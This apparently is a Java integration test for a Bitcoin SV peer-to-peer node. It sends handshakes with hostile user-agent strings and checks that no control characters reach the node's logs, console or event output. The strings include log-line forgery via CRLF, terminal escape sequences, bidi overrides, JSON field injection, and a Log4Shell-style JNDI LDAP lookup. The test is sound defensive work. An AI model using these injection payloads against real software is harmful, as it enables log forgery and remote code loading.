package bsv.p2p.app.scenario;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Agents that want to be more than text: on the wire each character is a byte.
class HostileAgentsIT {
    static final List<String> AGENTS = List.of(
            "/a\r\n12:00:00.000 ERROR [node] forged/", "/\u001b[2J\u001b[31m\u001b]0;owned\u0007/", "/\u009b2J\u0090x\u009c/", "/\u00e2\u0080\u00ae reversed \u00e2\u0081\u00a6/",
            "/\0nul\0/", "/\"quoted\", \"event\":\"PeerBanned\\/", "/${jndi:ldap://x/a} {} %s%n \\u000a/", "\u007f\b\t\u000b\u000c" + "\u0085".repeat(200));

    @TempDir
    Path folder;

    private static boolean isHarmless(String line) {
        return line.codePoints().noneMatch(point -> Character.isISOControl(point) || Character.getType(point) == Character.FORMAT);
    }

    @ParameterizedTest
    @ValueSource(strings = {"json", "text"})
    void noControlCharacterReachesALogATerminalOrAnEvent(String form) throws IOException {
        var log = folder.resolve("log");
        try (var node = RunningNode.listening("--target", "0", "--max", "20", "--log-level", "debug", "--log-file", log.toString(), "--events", form)) {
            for (var agent : AGENTS) {
                greet(node, "/Bitcoin SV:1/" + agent.substring(0, Math.min(agent.length(), 240)));
                greet(node, "/Satoshi:1/" + agent.substring(0, Math.min(agent.length(), 240)));
            }
            assertThat(node.stop()).isZero();
            assertThat(node.output().all()).as("events").hasSizeGreaterThan(5 * AGENTS.size()).allMatch(HostileAgentsIT::isHarmless);
            assertThat(node.console().all()).as("console").allMatch(HostileAgentsIT::isHarmless);
        }
        assertThat(Files.readString(log, UTF_8).split("\n", -1)).as("log").allMatch(HostileAgentsIT::isHarmless).filteredOn(line -> line.contains("user_agent=")).hasSizeGreaterThanOrEqualTo(AGENTS.size());
    }

    private static void greet(RunningNode node, String agent) throws IOException {
        try (var caller = Caller.dial(node.awaitAddress())) {
            caller.send(Wire.version(agent));
            if (agent.contains("Satoshi")) caller.awaitEnd();
            else caller.hearAnswer();
        }
    }
}
